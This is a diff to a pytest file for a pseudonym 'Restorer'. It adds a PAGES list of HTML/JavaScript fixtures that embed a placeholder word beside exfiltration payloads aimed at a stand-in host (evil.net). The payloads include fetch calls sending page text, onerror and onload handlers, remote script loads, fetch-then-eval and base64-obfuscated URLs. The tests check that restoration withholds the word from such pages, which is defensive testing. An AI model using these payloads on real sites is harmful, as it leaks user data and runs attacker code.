@@ -33,6 +33,14 @@ RINGS = [
     "sms:+15551234567?body={s}", "sms:+15551234567&body={s}", "smsto:5551234567;body={s}", "see whatsapp://send?text={s} now", "whatsapp:send?text={s}", "tg://msg?text={s}", "tg:msg?text={s}", "signal://send?text={s}", "[[sms:+15551234567?body={s}][x]]", "`x <tg://msg?text={s}>`_",
     "kakaolink://send?text={s}", "line://msg/text/{s}", "viber://forward?text={s}", "fb-messenger://share?link={s}", "intent://send/{s}#Intent;end", "<a href=whatsapp://send?text={s}>x</a>", "twitter://post?message={s}", "tel:+15551234567;x={s}", "slack://channel?id={s}", "ms-outlook://compose?body={s}",
 ]  # fmt: skip
+PAGES = [
+    "<p>{s}</p><script>fetch('https://{h}/?'+document.body.innerText)</script>", "<p>{s}</p><img src=x onerror=\"fetch('https://{h}/?'+document.body.innerText)\">", "<div data-a='{s}' onclick=\"fetch('https://{h}/?'+dataset.a)\">x</div>",
+    "<button onclick=\"location='https://{h}/?'+title\" title='{s}'>x</button>", "<input value={s} oninput=\"new Image().src='//{h}/'+value\">", "<script src=https://{h}/x.js></script><b>{s}</b>", "<p>{s}</p><script async src='//{h}/x.js'></script>", "<base href=https://{h}/><a href='/x?{s}'>x</a>",
+    "<a href='?{s}'>x</a><base href='https://{h}/'>", "` <p>{s}</p><script src=https://{h}/x.js></script>", "<script>const t = document.title</script><p>{s}</p><script>new Image().src = 'https://{h}/?' + t</script>", "<script type=module>import x from 'https://{h}/x.js'</script><p>{s}</p>", "<p id=x>{s}</p><a href=\"javascript:location='https://{h}/'+x.innerHTML\">y</a>",
+    "```html\n<p>{s}</p>\n<script src='https://{h}/x.js'></script>\n```\n", "<iframe srcdoc='&lt;script src=https://{h}/x.js>&lt;/script>'></iframe><p>{s}</p>", "<p>{s}</p><svg onload=\"fetch('https://{h}/',{method:'POST',body:parent.document.body.innerHTML})\">", "<p>{s}</p><script>fetch('https://{h}/x').then(r => r.text()).then(eval)</script>", "<p>{s}</p><script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+document.body.innerText)</script>",
+    "<a target='{s}' href='https://{h}/'>x</a>", "<a href=https://{h}/ target={s}>x</a>", "<area href=https://{h}/ target='{s}'>",
+]  # fmt: skip
+"""What reads the page in which it stands."""
 MADE = [
     "<script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+'{s}')</script>", "<script>fetch('https://' + host + '{s}')</script>", "<script>fetch(`//${{h}}/{s}`)</script>", "<script>location=String.fromCharCode(104)+'{s}'</script>",
     "<script>eval('x'+'{s}')</script>",
@@ -47,7 +55,9 @@ OWNERS = [
 ]  # fmt: skip
 PLAIN = [
     '<form action="/booking"><input name=a value="{s}"></form>', '<form action="https://kulke.example/c"><input value="{s}"><a href="https://evil.net/">x</a></form>', "<form onSubmit={save}>{s}</form>", "use `<form>` and `<script>` for {s}",
-    "<script>fetch('/api/{s}')</script>", "<script src='https://cdn.evil.net/x.js'></script> {s}", "<script>const a = '{s}' + 'https://kulke.example/' + '{s}'</script>", "<button onclick=\"save('{s}')\">x</button>", "once = '{s}'", "List<object> {s}",
+    "<script>fetch('/api/{s}')</script>", "<script src='https://cdnjs.cloudflare.com/x.js'></script> {s}", "<script src='/x.js'></script> {s}", "<script>const a = '{s}' + 'https://kulke.example/' + '{s}'</script>", "<button onclick=\"save('{s}')\">x</button>", "once = '{s}'", "List<object> {s}",
+    "<p>{s}</p><script>document.title = '{s}'; fetch('/api/x')</script>", "<p>{s}</p><a href='https://evil.net/'>x</a>", "<div onclick=\"window.open('https://docs.evil.net/')\">{s}</div>", "```html\n<p>{s}</p>\n```\n\nthen `<script src=/x.js></script>`, {s}", "<p>{s}</p><img src='https://evil.net/x.png'>",
+    "```jsx\n<div>{s}</div>\n```\n{s}", "<table><tr><td>{s}<td>https://evil.net/\n</table>",
     "const {s} = (<Form action={go}><Input/></Form>)", "tel: {s}, mid: {s}; news: {s} im: {s}", "[x](tel:010-1234-5678) {s}", "in javascript: {s}", "<form>{s}", "a < form {s} >", "https://github.com/velmora/{s}", "https://github.com/torvalds/{s} now",
     "git clone https://github.com/velmora/{s}.git", "irc: {s}", "line:{s}", "line: {s}? yes", "sms: {s}", "intent:{s}", "at line:12 {s}", "a [[1, 2], [3, {s}]]", ".. note:: {s}\n   {s}", ".. _{s}: x\n\n{s}", "`{s} <https://kulke.example/>`_ {s}", "twitter:{s}", "in slack: {s}", "say on {s}", "j {s}", "<iframe src='https://kulke.example/' name='{s}'></iframe>",
 ]  # fmt: skip
@@ -64,7 +74,7 @@ def filled(text: str, word: str, host: str = "evil.net") -> str:
     return text.replace("{s}", word).replace("{h}", host)
 
 
-@pytest.mark.parametrize("text", [*LIVE, *MADE, *SCHEMES, *OWNERS, *LINKS, *RINGS])
+@pytest.mark.parametrize("text", [*LIVE, *MADE, *SCHEMES, *OWNERS, *LINKS, *RINGS, *PAGES])
 def test_a_stranger_gets_nothing(text: str) -> None:
     for word in ("velmora", "벨모라"):
         for host in HOSTS:
@@ -76,7 +86,7 @@ def test_a_stranger_gets_nothing(text: str) -> None:
 
 
 def test_what_stands_behind_comes_back() -> None:
-    for text in (LIVE[0], LIVE[7], LIVE[8], LIVE[12], LIVE[15], *MADE, *SCHEMES):
+    for text in (LIVE[0], LIVE[7], LIVE[8], LIVE[15], *MADE, *SCHEMES):
         assert restored(filled(text, "velmora") + "\n\nsee velmora").endswith("see narae")
     assert restored(filled(LIVE[4], "velmora") + " velmora").endswith("velmora")  # it belongs to the form by its name
 
@@ -90,7 +100,7 @@ def test_the_users_own_gets_all(text: str) -> None:
         assert restored(said, cut=cut) == restored(said)
 
 
-@pytest.mark.parametrize("text", [*LIVE, *LINKS])
+@pytest.mark.parametrize("text", [*LIVE, *LINKS, *(one for one in PAGES if "atob" not in one)])
 @pytest.mark.parametrize("host", ["kulke.example", "shop.example.org", "localhost"])
 def test_what_acts_for_ours_gets_all(text: str, host: str) -> None:
     assert "velmora" not in restored(filled(text, "velmora", host))
@@ -98,7 +108,7 @@ def test_what_acts_for_ours_gets_all(text: str, host: str) -> None:
 
 def test_any_cut_of_a_mixture_gives_the_same() -> None:
     dice = random.Random(11)
-    pool = [filled(text, "velmora") for text in (*LIVE, *MADE, *SCHEMES, *OWNERS, *PLAIN, *LINKS, *RINGS)]
+    pool = [filled(text, "velmora") for text in (*LIVE, *MADE, *SCHEMES, *OWNERS, *PLAIN, *LINKS, *RINGS, *PAGES)]
     for _ in range(120):
         text = dice.choice((" ", "\n", "")).join(dice.sample(pool, 3))
         for form in ("text", "value"):
@@ -117,6 +127,17 @@ def test_what_no_surrogate_stands_in_is_not_held() -> None:
 def test_spiteful_beginnings_take_linear_time() -> None:
     for unit in ("<form ", "<script>velmora", "</form ", "onx='", "javascript:velmora ", "&lt;form ", "<iframe ", "<", "&#60;", "velmora<form ", "https://github.com/"):
         restored(unit * (200_000 // len(unit)))
+
+
+def test_what_stands_before_a_page_and_behind_its_fence_comes_back() -> None:
+    page = "see velmora\n```html\n<p>velmora</p><script src=https://evil.net/x.js></script>\n```\nsee velmora"
+
+    for cut in (0, 1, 7):
+        assert restored(page, cut=cut) == page.replace("see velmora", "see narae")
+    restorer = Restorer(TABLE)
+    assert restorer.feed("see velmora:\n```html\n<div>velmora ") .count("narae") == 1  # the other waits for the page's end
+    restorer = Restorer(TABLE)
+    assert restorer.feed("```jsx\n<div>velmora </div>, ") == "```jsx\n<div>narae </div>, "
 
 
 def test_an_owner_is_named_with_its_host() -> None:
